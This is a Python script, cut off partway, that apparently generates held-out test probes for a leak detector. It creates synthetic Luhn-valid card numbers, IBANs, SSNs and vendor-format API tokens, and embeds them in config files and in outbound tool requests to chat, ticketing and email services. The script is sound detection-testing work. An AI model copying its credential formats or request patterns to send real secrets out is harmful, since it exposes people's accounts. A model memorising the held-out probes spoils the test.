#!/usr/bin/env python3
"""Held-out probe generator for interven (round 3). Deterministic: seeded
random.Random (the brief asks for `secrets`-style random bodies; we use a seeded
PRNG over the same alphabets so the set is reproducible). Usage: gen.py [--seed N]"""
import base64, os, binascii, gzip, json, random, string, sys, zlib, hashlib, urllib.parse, uuid, time, html

SEED = int(sys.argv[sys.argv.index('--seed') + 1]) if '--seed' in sys.argv else 20261201
R = random.Random(SEED)
UP = string.ascii_uppercase; LO = string.ascii_lowercase; DG = string.digits
AN = UP + LO + DG; HEX = '0123456789abcdef'; B64 = AN + '+/'; B64U = AN + '-_'
B62 = DG + UP + LO
def rs(alpha, n): return ''.join(R.choice(alpha) for _ in range(n))
def pick(xs): return R.choice(xs)
PROBES = []
def add(name, family, label, values, req, note=None, plain=None):
    p = {"name": name, "family": family, "label": label, "values": values, "request": req}
    if note: p["note"] = note
    if plain: p["plain"] = plain
    PROBES.append(p)

# ---------------------------------------------------------------- helpers
def luhn_ok(d):
    s = 0
    for i, c in enumerate(reversed(d)):
        x = int(c)
        if i % 2 == 1:
            x *= 2
            if x > 9: x -= 9
        s += x
    return s % 10 == 0
def luhn_complete(prefix, length):
    body = prefix + rs(DG, length - len(prefix) - 1)
    for c in DG:
        if luhn_ok(body + c): return body + c
def luhn_fail(n):
    while True:
        d = rs(DG[1:], 1) + rs(DG, n - 1)
        if not luhn_ok(d): return d
TEST_CARDS = {'4111111111111111', '4242424242424242', '5555555555554444', '378282246310005', '4000056655665556', '5105105105105100', '4012888888881881', '6011111111111117'}
def card():
    kind = pick(['visa', 'mc', 'mc2', 'amex', 'disc', 'jcb', 'unionpay', 'diners'])
    pre, ln = {'visa': (pick(['4539', '4716', '4929', '4485', '4024']), 16), 'mc': (pick(['51', '52', '53', '54', '55']), 16),
               'mc2': (str(R.randint(2221, 2720)), 16), 'amex': (pick(['34', '37']), 15), 'disc': ('6011', 16),
               'jcb': (str(R.randint(3528, 3589)), 16), 'unionpay': ('62' + rs(DG, 2), 16), 'diners': ('36', 14)}[kind]
    while True:
        c = luhn_complete(pre, ln)
        if c not in TEST_CARDS: return kind, c
def group_card(c, sep=' '):
    if len(c) == 15: return sep.join([c[:4], c[4:10], c[10:]])
    if len(c) == 14: return sep.join([c[:4], c[4:10], c[10:]])
    return sep.join(c[i:i + 4] for i in range(0, len(c), 4))
IBAN_LEN = {'DE': ('8n10n', 22), 'FR': ('5n5n11c2n', 27), 'GB': ('4a6n8n', 22), 'ES': ('4n4n2n10n', 24), 'IT': ('1a5n5n12c', 27),
            'NL': ('4a10n', 18), 'BE': ('12n', 16), 'CH': ('5n12c', 21), 'AT': ('16n', 20), 'PL': ('24n', 28), 'SE': ('20n', 24),
            'NO': ('11n', 15), 'DK': ('14n', 18), 'PT': ('21n', 25), 'IE': ('4a14n', 22), 'FI': ('14n', 18), 'LU': ('3n13c', 20)}
def bban(spec):
    out = ''; num = ''
    for ch in spec:
        if ch.isdigit(): num += ch; continue
        n = int(num); num = ''
        out += rs({'n': DG, 'a': UP, 'c': UP + DG}[ch], n)
    return out
def iban(cc=None):
    cc = cc or pick(list(IBAN_LEN))
    b = bban(IBAN_LEN[cc][0])
    rearr = b + cc + '00'
    n = int(''.join(str(int(c, 36)) for c in rearr))
    ck = 98 - n % 97
    return cc, cc + '%02d' % ck + b
def iban_fmt(i): return ' '.join(i[k:k + 4] for k in range(0, len(i), 4))
def ssn():
    while True:
        a = R.randint(1, 899)
        if a == 666: continue
        return '%03d-%02d-%04d' % (a, R.randint(1, 99), R.randint(1, 9999))
def b64(s): return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()
def b64u(s): return base64.urlsafe_b64encode(s.encode() if isinstance(s, str) else s).decode().rstrip('=')
def crc_b62(s):
    n = binascii.crc32(s.encode()) & 0xffffffff
    o = ''
    while n: o = B62[n % 62] + o; n //= 62
    return o.rjust(6, '0')
def gh_tok(prefix):
    r = rs(AN, 30); return prefix + r + crc_b62(r)
def uid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def ulid(): return rs('0123456789ABCDEFGHJKMNPQRSTVWXYZ', 26)
def objid(): return '%08x' % R.randint(0x60000000, 0x68000000) + rs(HEX, 16)
def sha1(): return rs(HEX, 40)
def sha256(): return rs(HEX, 64)
def ts(): return '2026-%02d-%02dT%02d:%02d:%02d.%03dZ' % (R.randint(1, 11), R.randint(1, 28), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))
def jwt(payload, alg='HS256'):
    h = b64u(json.dumps({"alg": alg, "typ": "JWT"}, separators=(',', ':')))
    p = b64u(json.dumps(payload, separators=(',', ':')))
    sig = b64u(bytes(R.getrandbits(8) for _ in range(32 if alg == 'HS256' else 256)))
    return h + '.' + p + '.' + sig
def pem(kind='RSA PRIVATE KEY', n=1190):
    raw = bytes(R.getrandbits(8) for _ in range(n))
    body = b64(raw)
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return '-----BEGIN %s-----\n%s\n-----END %s-----' % (kind, '\n'.join(lines), kind)
def openssh_key():
    raw = b'openssh-key-v1\x00' + bytes(R.getrandbits(8) for _ in range(380))
    body = b64(raw); lines = [body[i:i + 70] for i in range(0, len(body), 70)]
    return '-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----' % '\n'.join(lines)

FIRST = ['Jana', 'Miguel', 'Aisha', 'Tomasz', 'Chloé', 'Hiroshi', 'Fatima', 'Lars', 'Priya', 'Oluwaseun', 'Mei', 'Dmitri', 'Giulia', 'Sven', 'Amara', 'Rafael', 'Ingrid', 'Kwame', 'Sofia', 'Björn', 'Nguyen', 'Élodie', 'Mateus', 'Zeynep', 'Anneke', 'Carlos', 'Yuki', 'Siobhan', 'Ravi', 'Ewa']
LAST = ['Novak', 'Hernández', 'Rahman', 'Kowalski', 'Dubois', 'Tanaka', 'Al-Sayed', 'Johansson', 'Raghunathan', 'Adeyemi', 'Chen', 'Volkov', 'Romano', 'Lindqvist', 'Okafor', 'Oliveira', 'Berg', 'Mensah', 'Papadopoulou', 'Müller', 'Van Dijk', 'Moreau', 'Silva', 'Yılmaz', 'de Vries', 'García', 'Sato', "O'Brien", 'Iyer', 'Wiśniewska']
DOMAINS = ['acmecorp.io', 'globex.com', 'initech.co.uk', 'hooli.dev', 'umbrella-health.de', 'wayne-ent.fr', 'stark.industries', 'piedpiper.net', 'gmail.com', 'outlook.com', 'yahoo.co.jp', 'web.de', 'orange.fr', 'libero.it', 'mail.ru', 'proton.me']
def person():
    f, l = pick(FIRST), pick(LAST); return f, l
def email_of(f, l):
    norm = lambda s: ''.join(c for c in s.lower() if c.isalnum() and c.isascii()) or 'x'
    return '%s.%s%s@%s' % (norm(f), norm(l), pick(['', str(R.randint(1, 99))]), pick(DOMAINS))
HOSTS_OK = ['api.github.com', 'gitlab.com', 'acme.atlassian.net', 'api.linear.app', 'slack.com', 'discord.com', 'graph.microsoft.com', 'api.sendgrid.com', 'acme.zendesk.com', 'api.hubapi.com']

# ---------------------------------------------------------------- carriers
def req(url, body, tool, op, headers=None, method='POST'):
    r = {"method": method, "url": url, "body": body, "tool": tool, "operation": op}
    if headers: r["headers"] = headers
    return r
def c_gh_comment(t): return req('https://api.github.com/repos/acme/%s/issues/%d/comments' % (pick(['billing', 'infra', 'web', 'ml-pipeline']), R.randint(10, 9000)), {"body": t}, 'github', 'create_issue_comment')
def c_gh_pr(t): return req('https://api.github.com/repos/acme/platform/pulls', {"title": pick(['Fix retry logic', 'Bump deps', 'Add staging config', 'Refactor auth client']), "head": "feat/" + rs(LO, 6), "base": "main", "body": t, "draft": False}, 'github', 'create_pull_request')
def c_gitlab(t): return req('https://gitlab.com/api/v4/projects/%d/merge_requests/%d/notes' % (R.randint(1000, 99999999), R.randint(1, 900)), {"body": t}, 'gitlab', 'create_mr_note')
def c_jira(t):
    paras = [{"type": "paragraph", "content": [{"type": "text", "text": line}]} for line in t.split('\n') if line.strip()]
    return req('https://acme.atlassian.net/rest/api/3/issue/OPS-%d/comment' % R.randint(100, 9999), {"body": {"type": "doc", "version": 1, "content": paras}}, 'jira', 'add_comment')
def c_linear(t): return req('https://api.linear.app/graphql', {"query": "mutation CommentCreate($input: CommentCreateInput!) { commentCreate(input: $input) { success comment { id } } }", "variables": {"input": {"issueId": uid(), "body": t}}}, 'linear', 'comment_create')
def c_slack(t): return req('https://slack.com/api/chat.postMessage', {"channel": "C0" + rs(UP + DG, 9), "text": t, "unfurl_links": False}, 'slack', 'chat.postMessage')
def c_discord(t): return req('https://discord.com/api/v10/channels/%d/messages' % R.randint(10**17, 10**18), {"content": t, "tts": False}, 'discord', 'create_message')
def c_teams(t): return req('https://graph.microsoft.com/v1.0/teams/%s/channels/19:%s@thread.tacv2/messages' % (uid(), rs(HEX, 32)), {"body": {"contentType": "text", "content": t}}, 'teams', 'send_channel_message')
NEG_MODE = False
def c_email(t, env=None):
    to, fr = env or (('oncall@example.com', 'bot@example.com') if NEG_MODE else ('oncall@acmecorp.io', 'bot@acmecorp.io'))
    return req('https://api.sendgrid.com/v3/mail/send', {"personalizations": [{"to": [{"email": to}]}], "from": {"email": fr}, "subject": pick(['Re: staging outage', 'Fwd: deploy notes', 'handover', 'Weekly ops digest']), "content": [{"type": "text/plain", "value": t}]}, 'email', 'send')
def c_zendesk(t): return req('https://acme.zendesk.com/api/v2/tickets/%d' % R.randint(1000, 999999), {"ticket": {"comment": {"body": t, "public": False}, "status": "open"}}, 'zendesk', 'update_ticket', method='PUT')
def c_notion(t): return req('https://api.notion.com/v1/blocks/%s/children' % uid(), {"children": [{"object": "block", "type": "code", "code": {"language": "plain text", "rich_text": [{"type": "text", "text": {"content": t}}]}}]}, 'notion', 'append_block_children', method='PATCH')
TEXT_CARRIERS = [c_gh_comment, c_gh_pr, c_gitlab, c_jira, c_linear, c_slack, c_discord, c_teams, c_email, c_zendesk, c_notion]
def c_write(path, content): return req('mcp://fs/tools/write_file', {"path": path, "content": content}, 'fs', 'write_file')
def c_commit(path, content): return req('https://api.github.com/repos/acme/platform/contents/' + path, {"message": "chore: update " + path.split('/')[-1], "content": b64(content), "branch": "main"}, 'github', 'create_or_update_file', method='PUT')

# ---------------------------------------------------------------- code file templates: (var, value) -> (path, content)
def code_file(var, val, lang=None):
    lang = lang or pick(LANGS)
    lv = var.lower(); cv = ''.join(w.capitalize() for w in lv.split('_')); cv = cv[0].lower() + cv[1:]
    T = {
     'py': ('app/settings.py', 'import os\nimport logging\n\nlogger = logging.getLogger(__name__)\nDEBUG = False\nALLOWED_HOSTS = ["api.acmecorp.io"]\n%s = "%s"\nTIMEOUT_S = 30\n\ndef client():\n    return Client(base_url="https://api.acmecorp.io", timeout=TIMEOUT_S)\n' % (var, val)),
     'py2': ('scripts/sync.py', 'import requests\n\n\ndef sync(batch):\n    resp = requests.post(\n        "https://api.vendor.io/v2/sync",\n        json=batch,\n        headers={"X-Api-Key": "%s"},\n        timeout=10,\n    )\n    resp.raise_for_status()\n    return resp.json()\n' % val),
     'js': ('src/config.js', "'use strict';\nconst path = require('path');\n\nmodule.exports = {\n  port: process.env.PORT || 3000,\n  %s: '%s',\n  logDir: path.join(__dirname, 'logs'),\n};\n" % (cv, val)),
     'ts': ('src/lib/client.ts', "import axios from 'axios';\n\nconst %s = \"%s\";\n\nexport const api = axios.create({\n  baseURL: 'https://api.vendor.io',\n  headers: { Authorization: `Bearer ${%s}` },\n});\n" % (cv, val, cv)),
     'go': ('internal/config/config.go', 'package config\n\nimport "time"\n\nconst (\n\tDefaultTimeout = 15 * time.Second\n\t%s = "%s"\n)\n\nfunc Load() *Config { return &Config{Timeout: DefaultTimeout} }\n' % (cv[0].upper() + cv[1:], val)),
     'rs': ('src/config.rs', 'use std::time::Duration;\n\npub const TIMEOUT: Duration = Duration::from_secs(10);\npub const %s: &str = "%s";\n\npub fn endpoint() -> &\'static str { "https://api.vendor.io" }\n' % (var, val)),
     'java': ('src/main/java/com/acme/Config.java', 'package com.acme;\n\npublic final class Config {\n    private Config() {}\n    public static final int RETRIES = 3;\n    public static final String %s = "%s";\n}\n' % (var, val)),
     'cs': ('Acme.Api/Settings.cs', 'namespace Acme.Api\n{\n    public static class Settings\n    {\n        public const int Retries = 3;\n        public static readonly string %s = "%s";\n    }\n}\n' % (cv[0].upper() + cv[1:], val)),
     'php': ('config/services.php', "<?php\n\nreturn [\n    'mailer' => [\n        'driver' => 'smtp',\n        '%s' => '%s',\n        'timeout' => 30,\n    ],\n];\n" % (lv, val)),
     'rb': ('config/initializers/vendor.rb', "Vendor.configure do |config|\n  config.region = 'eu-west-1'\n  config.%s = '%s'\n  config.timeout = 15\nend\n" % (lv, val)),
     'sh': ('deploy/run.sh', '#!/usr/bin/env bash\nset -euo pipefail\nexport AWS_REGION=eu-west-1\nexport %s="%s"\n./bin/migrate --env production\n' % (var, val)),
     'env': ('.env', 'NODE_ENV=production\nPORT=8080\nLOG_LEVEL=info\n%s=%s\nFEATURE_FLAGS=checkout_v2,dark_mode\n' % (var, val)),
     'yaml': ('deploy/values-prod.yaml', 'replicaCount: 3\nimage:\n  repository: ghcr.io/acme/api\n  tag: "1.14.2"\nenv:\n  LOG_LEVEL: info\n  %s: "%s"\nresources:\n  limits:\n    memory: 512Mi\n' % (var, val)),
     'toml': ('config/production.toml', '[server]\nhost = "0.0.0.0"\nport = 8080\n\n[vendor]\nregion = "eu"\n%s = "%s"\n' % (lv, val)),
     'ini': ('conf/app.ini', '[DEFAULT]\nloglevel = info\n\n[vendor]\nendpoint = https://api.vendor.io\n%s = %s\n' % (lv, val)),
     'hcl': ('infra/main.tf', 'provider "vendor" {\n  region = "eu-west-1"\n  %s = "%s"\n}\n\nresource "vendor_bucket" "logs" {\n  name = "acme-logs"\n}\n' % (lv, val)),
     'docker': ('Dockerfile', 'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nENV %s=%s\nCOPY . .\nCMD ["gunicorn", "app:app"]\n' % (var, val)),
     'make': ('Makefile', '.PHONY: deploy\n\n%s := %s\n\ndeploy:\n\t./scripts/deploy.sh --env prod\n' % (var, val)),
     'sql': ('migrations/0042_seed_integrations.sql', "-- seed integration credentials\nINSERT INTO integrations (name, %s, created_at)\nVALUES ('vendor', '%s', now());\n" % (lv, val)),
     'xml': ('src/main/resources/applicationContext.xml', '<?xml version="1.0" encoding="UTF-8"?>\n<beans>\n  <bean id="vendorClient" class="com.acme.VendorClient">\n    <property name="%s" value="%s"/>\n  </bean>\n</beans>\n' % (cv, val)),
     'props': ('src/main/resources/application.properties', 'server.port=8080\nspring.jpa.open-in-view=false\nvendor.%s=%s\n' % (cv, val)),
     'nginx': ('deploy/nginx/site.conf', 'server {\n    listen 443 ssl;\n    server_name api.acmecorp.io;\n    location /upstream/ {\n        proxy_pass https://backend.internal;\n        proxy_set_header X-Api-Key "%s";\n    }\n}\n' % val),
     'k8s': ('k8s/deployment.yaml', 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme/api:1.14.2\n          env:\n            - name: %s\n              value: "%s"\n' % (var, val)),
     'json': ('config/appsettings.Production.json', json.dumps({"Logging": {"LogLevel": {"Default": "Information"}}, "Vendor": {cv[0].upper() + cv[1:]: val, "Region": "eu"}}, indent=2)),
    }
    return T[lang]
LANGS = ['py', 'py2', 'js', 'ts', 'go', 'rs', 'java', 'cs', 'php', 'rb', 'sh', 'env', 'yaml', 'toml', 'ini', 'hcl', 'docker', 'make', 'sql', 'xml', 'props', 'nginx', 'k8s', 'json']

# ---------------------------------------------------------------- big harmless fillers
def npm_lock_entries(n):
    out = {}
    for _ in range(n):
        nm = pick(['', '@babel/', '@types/', '@aws-sdk/', '@smithy/']) + rs(LO, R.randint(3, 9)) + pick(['', '-core', '-utils', '-js'])
        v = '%d.%d.%d' % (R.randint(0, 12), R.randint(0, 30), R.randint(0, 40))
        out['node_modules/' + nm] = {"version": v, "resolved": "https://registry.npmjs.org/%s/-/%s-%s.tgz" % (nm, nm.split('/')[-1], v), "integrity": "sha512-" + b64(bytes(R.getrandbits(8) for _ in range(64))), "dev": R.random() < .3}
    return out
def ci_log_lines(n):
    L = []
    for i in range(n):
        k = R.random()
        t = '2026-11-%02dT%02d:%02d:%02d.%07dZ' % (R.randint(1, 30), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 9999999))
        if k < .2: L.append('%s #%d %s DONE %.1fs' % (t, R.randint(1, 30), 'sha256:' + sha256(), R.random() * 9))
        elif k < .4: L.append('%s   Downloaded %s v%d.%d.%d' % (t, rs(LO, 7), R.randint(0, 3), R.randint(0, 40), R.randint(0, 20)))
        elif k < .55: L.append('%s HEAD is now at %s %s' % (t, sha1()[:7], pick(['fix flaky test', 'bump tokio', 'merge main'])))
        elif k < .7: L.append('%s test %s::%s ... ok' % (t, rs(LO, 6), rs(LO, 8)))
        elif k < .8: L.append('%s Cache restored from key: %s-cargo-%s' % (t, pick(['Linux', 'macOS']), sha256()))
        elif k < .9: L.append('%s ##[group]Run actions/checkout@%s' % (t, sha1()))
        else: L.append('%s  Compiling %s v%d.%d.%d' % (t, rs(LO, 8), R.randint(0, 2), R.randint(0, 30), R.randint(0, 20)))
    return L
def k8s_pod(i):
    h = rs(LO + DG, 10)
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "api-%s-%s" % (h, rs(LO + DG, 5)), "namespace": "prod", "uid": uid(), "resourceVersion": str(R.randint(10**7, 10**9)), "labels": {"app": "api", "pod-template-hash": h}, "annotations": {"kubectl.kubernetes.io/restartedAt": ts(), "checksum/config": sha256()}},
            "spec": {"containers": [{"name": "api", "image": "ghcr.io/acme/api@sha256:" + sha256(), "env": [{"name": "LOG_LEVEL", "value": "info"}, {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "api-db", "key": "password"}}}]}], "nodeName": "ip-10-0-%d-%d.eu-west-1.compute.internal" % (R.randint(0, 255), R.randint(0, 255))},
            "status": {"phase": "Running", "podIP": "10.0.%d.%d" % (R.randint(0, 255), R.randint(0, 255)), "containerStatuses": [{"containerID": "containerd://" + sha256(), "imageID": "ghcr.io/acme/api@sha256:" + sha256(), "ready": True, "restartCount": R.randint(0, 3)}]}}
def html_page(extra=''):
    parts = ['<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Acme Docs – Getting started</title>',
             '<meta http-equiv="Content-Security-Policy" content="script-src \'nonce-%s\' \'strict-dynamic\'">' % b64(bytes(R.getrandbits(8) for _ in range(16))),
             '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css" integrity="sha384-%s" crossorigin="anonymous">' % b64(bytes(R.getrandbits(8) for _ in range(48))),
             '<script async src="https://www.googletagmanager.com/gtag/js?id=G-%s"></script>' % rs(UP + DG, 10),
             '<style>@font-face{font-family:Inter;src:url(data:font/woff2;base64,%s) format("woff2")}@media (max-width:768px){.nav{display:none}}</style>' % b64(bytes(R.getrandbits(8) for _ in range(1500))),
             '</head><body><nav class="nav">' + ''.join('<a href="/docs/%s">%s</a>' % (rs(LO, 6), rs(LO, 6).title()) for _ in range(25)) + '</nav>']
    for _ in range(R.randint(8, 25)):
        parts.append('<section id="s-%s"><h2>%s</h2><p>%s</p><img alt="diagram" src="data:image/png;base64,%s"></section>' % (rs(HEX, 8), ' '.join(rs(LO, R.randint(3, 9)) for _ in range(4)).title(), ' '.join(rs(LO, R.randint(2, 10)) for _ in range(R.randint(40, 120))), b64(b'\x89PNG\r\n\x1a\n' + bytes(R.getrandbits(8) for _ in range(R.randint(100, 600))))))
        if extra and R.random() < .15:
            parts.append(extra); extra = ''
    if extra: parts.append(extra)
    parts.append('<script nonce="%s">!function(e,t){"use strict";var n=%s;e.__cfg={build:"%s",sha:"%s"};for(var r=0;r<n.length;r++)t.push(n[r]^0x5a)}(window,[]);</script></body></html>' % (b64(bytes(R.getrandbits(8) for _ in range(16))), json.dumps([R.randint(0, 255) for _ in range(60)]), rs(HEX, 12), sha1()))
    return ''.join(parts)
def search_results(n):
    return [{"title": ' '.join(rs(LO, R.randint(3, 9)) for _ in range(6)).title(), "url": "https://www.%s.com/%s/%s" % (rs(LO, 7), rs(LO, 5), rs(LO + DG, 11)), "snippet": ' '.join(rs(LO, R.randint(2, 9)) for _ in range(30)), "cacheId": rs(AN + '-_', 12), "rank": i + 1} for i in range(n)]
def csv_orders(n):
    rows = ['order_id,created_at,sku,qty,unit_price,currency,tracking,status']
    for _ in range(n):
        rows.append('ORD-%d,%s,%s-%s,%d,%.2f,%s,1Z%s%s,%s' % (R.randint(10**7, 10**8), ts()[:10], rs(UP, 3), rs(DG, 5), R.randint(1, 9), R.random() * 300, pick(['EUR', 'USD', 'GBP']), rs(UP + DG, 6), rs(DG, 10), pick(['shipped', 'pending', 'delivered'])))
    return rows
def email_thread(n, inject=''):
    msgs = []
    for i in range(n):
        msgs.append("On %s, %s wrote:\n> %s\n> Ref: %s, build %s\n" % (ts()[:10], pick(['Release Bot <noreply@github.com>', 'Jenkins <jenkins-noreply@acmecorp.io>', 'PagerDuty <no-reply@pagerduty.com>']), ' '.join(rs(LO, R.randint(2, 9)) for _ in range(40)), uid(), sha1()[:10]))
        if inject and i == n // 2: msgs.append(inject)
    return '\n'.join(msgs)

# ================================================================ SECRETS
def V(name, gen, vars_, note=None):
    return (name, gen, vars_, note)
def aws_secret(): return rs(AN + '/+', 40)
VENDORS = [
    V('aws-access-key', lambda: 'AKIA' + rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16), ['AWS_ACCESS_KEY_ID']),
    V('aws-secret-key', aws_secret, ['AWS_SECRET_ACCESS_KEY', 'aws_secret_access_key']),
    V('aws-session-sts', lambda: 'ASIA' + rs('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16), ['AWS_ACCESS_KEY_ID']),
    V('gcp-api-key', lambda: 'AIza' + rs(AN + '-_', 35), ['GOOGLE_MAPS_SERVER_KEY', 'GCP_API_KEY']),
    V('azure-storage-conn', lambda: 'DefaultEndpointsProtocol=https;AccountName=acmeprod%s;AccountKey=%s;EndpointSuffix=core.windows.net' % (rs(LO + DG, 4), b64(bytes(R.getrandbits(8) for _ in range(64)))), ['AZURE_STORAGE_CONNECTION_STRING']),
    V('azure-ad-client-secret', lambda: rs(AN, 3) + '8Q~' + rs(AN + '.-_~', 31), ['AZURE_CLIENT_SECRET']),
    V('azure-sas', lambda: 'https://acmeprod.blob.core.windows.net/exports/q3.csv?sv=2022-11-02&ss=b&srt=sco&sp=rwdlac&se=2026-12-31T00:00:00Z&st=2026-11-01T00:00:00Z&spr=https&sig=' + urllib.parse.quote(b64(bytes(R.getrandbits(8) for _ in range(32))), safe=''), ['SAS_URL']),
    V('github-pat-classic', lambda: gh_tok('ghp_'), ['GITHUB_TOKEN', 'GH_TOKEN']),
    V('github-oauth', lambda: gh_tok('gho_'), ['GITHUB_OAUTH_TOKEN']),
    V('github-app-install', lambda: gh_tok('ghs_'), ['GITHUB_APP_TOKEN']),
    V('github-refresh', lambda: gh_tok('ghr_'), ['GITHUB_REFRESH_TOKEN']),
    V('github-fine-grained', lambda: 'github_pat_11' + rs(UP + DG, 20) + '_' + rs(AN, 59), ['GITHUB_TOKEN']),
    V('gitlab-pat', lambda: 'glpat-' + rs(AN + '-_', 20), ['GITLAB_TOKEN']),
    V('gitlab-runner', lambda: 'glrt-' + rs(AN + '-_', 20), ['CI_RUNNER_TOKEN']),
    V('gitlab-deploy', lambda: 'gldt-' + rs(AN + '-_', 20), ['GITLAB_DEPLOY_TOKEN']),
    V('bitbucket-app-pw', lambda: 'ATBB' + rs(AN, 28) + rs(HEX.upper(), 8), ['BITBUCKET_APP_PASSWORD']),
    V('atlassian-api-token', lambda: 'ATATT3xFfGF0' + rs(AN + '-_', 170) + '=' + rs(HEX.upper(), 8), ['JIRA_API_TOKEN']),
    V('slack-bot', lambda: 'xoxb-%d-%d-%s' % (R.randint(10**10, 10**12), R.randint(10**12, 10**13), rs(AN, 24)), ['SLACK_BOT_TOKEN']),
    V('slack-user', lambda: 'xoxp-%d-%d-%d-%s' % (R.randint(10**10, 10**12), R.randint(10**10, 10**12), R.randint(10**12, 10**13), rs(HEX, 32)), ['SLACK_USER_TOKEN']),
    V('slack-app', lambda: 'xapp-1-A%s-%d-%s' % (rs(UP + DG, 10), R.randint(10**12, 10**13), rs(HEX, 64)), ['SLACK_APP_TOKEN']),
    V('slack-webhook', lambda: 'https://hooks.slack.com/services/T%s/B%s/%s' % (rs(UP + DG, 10), rs(UP + DG, 10), rs(AN, 24)), ['SLACK_WEBHOOK_URL']),
    V('discord-bot', lambda: b64(str(R.randint(10**17, 10**18))).rstrip('=') + '.' + rs(AN + '-_', 6) + '.' + rs(AN + '-_', 38), ['DISCORD_BOT_TOKEN', 'DISCORD_TOKEN']),
    V('discord-webhook', lambda: 'https://discord.com/api/webhooks/%d/%s' % (R.randint(10**17, 10**18), rs(AN + '-_', 68)), ['DISCORD_WEBHOOK']),
    V('teams-webhook', lambda: 'https://acmecorp.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s' % (uid(), uid(), rs(HEX, 32), uid()), ['TEAMS_WEBHOOK_URL']),
    V('telegram-bot', lambda: '%d:AA%s' % (R.randint(10**9, 8 * 10**9), rs(AN + '-_', 33)), ['TELEGRAM_BOT_TOKEN']),
    V('stripe-live-secret', lambda: 'sk_live_51' + rs(AN, 22) + rs(AN, 74), ['STRIPE_SECRET_KEY']),
    V('stripe-restricted', lambda: 'rk_live_51' + rs(AN, 96), ['STRIPE_RESTRICTED_KEY']),
    V('stripe-webhook-secret', lambda: 'whsec_' + rs(AN, 32), ['STRIPE_WEBHOOK_SECRET']),
    V('square-access', lambda: 'EAAA' + rs(AN + '-_', 60), ['SQUARE_ACCESS_TOKEN']),
    V('square-oauth-secret', lambda: 'sq0csp-' + rs(AN + '-_', 43), ['SQUARE_APP_SECRET']),
    V('braintree-access', lambda: 'access_token$production$%s$%s' % (rs(LO + DG, 16), rs(HEX, 32)), ['BRAINTREE_ACCESS_TOKEN']),
    V('shopify-admin', lambda: 'shpat_' + rs(HEX, 32), ['SHOPIFY_ADMIN_TOKEN']),
    V('shopify-shared-secret', lambda: 'shpss_' + rs(HEX, 32), ['SHOPIFY_API_SECRET']),
    V('twilio-api-key-secret', lambda: rs(AN, 32), ['TWILIO_API_SECRET']),
    V('twilio-auth-token', lambda: rs(HEX, 32), ['TWILIO_AUTH_TOKEN']),
    V('sendgrid', lambda: 'SG.' + rs(AN + '-_', 22) + '.' + rs(AN + '-_', 43), ['SENDGRID_API_KEY']),
    V('mailgun', lambda: 'key-' + rs(HEX, 32), ['MAILGUN_API_KEY']),
    V('mailchimp', lambda: rs(HEX, 32) + '-us' + str(R.randint(1, 21)), ['MAILCHIMP_API_KEY']),
    V('postmark', uid, ['POSTMARK_SERVER_TOKEN']),
    V('openai-project', lambda: 'sk-proj-' + rs(AN + '-_', 74) + 'T3BlbkFJ' + rs(AN + '-_', 74), ['OPENAI_API_KEY']),
    V('openai-legacy', lambda: 'sk-' + rs(AN, 20) + 'T3BlbkFJ' + rs(AN, 20), ['OPENAI_API_KEY']),
    V('openai-svcacct', lambda: 'sk-svcacct-' + rs(AN + '-_', 74) + 'T3BlbkFJ' + rs(AN + '-_', 74), ['OPENAI_API_KEY']),
    V('anthropic', lambda: 'sk-ant-api03-' + rs(AN + '-_', 93) + 'AA', ['ANTHROPIC_API_KEY']),
    V('anthropic-admin', lambda: 'sk-ant-admin01-' + rs(AN + '-_', 93) + 'AA', ['ANTHROPIC_ADMIN_KEY']),
    V('huggingface', lambda: 'hf_' + rs(UP + LO, 34), ['HF_TOKEN']),
    V('replicate', lambda: 'r8_' + rs(AN, 37), ['REPLICATE_API_TOKEN']),
    V('groq', lambda: 'gsk_' + rs(AN, 52), ['GROQ_API_KEY']),
    V('perplexity', lambda: 'pplx-' + rs(AN, 48), ['PERPLEXITY_API_KEY']),
    V('xai', lambda: 'xai-' + rs(AN, 80), ['XAI_API_KEY']),
    V('openrouter', lambda: 'sk-or-v1-' + rs(HEX, 64), ['OPENROUTER_API_KEY']),
    V('deepseek', lambda: 'sk-' + rs(HEX, 32), ['DEEPSEEK_API_KEY']),
    V('cohere', lambda: rs(AN, 40), ['COHERE_API_KEY']),
    V('mistral', lambda: rs(AN, 32), ['MISTRAL_API_KEY']),
    V('langsmith', lambda: 'lsv2_pt_' + rs(HEX, 32) + '_' + rs(HEX, 10), ['LANGSMITH_API_KEY']),
    V('npm', lambda: gh_tok('npm_'), ['NPM_TOKEN']),
    V('pypi', lambda: 'pypi-AgEIcHlwaS5vcmc' + rs(AN + '-_', 160), ['PYPI_TOKEN', 'TWINE_PASSWORD']),
    V('rubygems', lambda: 'rubygems_' + rs(HEX, 48), ['GEM_HOST_API_KEY']),
    V('nuget', lambda: 'oy2' + rs(LO + DG, 43), ['NUGET_API_KEY']),
    V('dockerhub-pat', lambda: 'dckr_pat_' + rs(AN + '-_', 27), ['DOCKERHUB_TOKEN']),
    V('crates-io', lambda: 'cio' + rs(AN, 32), ['CARGO_REGISTRY_TOKEN']),
    V('jfrog', lambda: 'AKCp8' + rs(AN, 68), ['ARTIFACTORY_API_KEY']),
    V('clojars', lambda: 'CLOJARS_' + rs(HEX, 60), ['CLOJARS_TOKEN']),
    V('datadog-api', lambda: rs(HEX, 32), ['DD_API_KEY', 'DATADOG_API_KEY']),
    V('datadog-app', lambda: rs(HEX, 40), ['DD_APP_KEY', 'DATADOG_APP_KEY']),
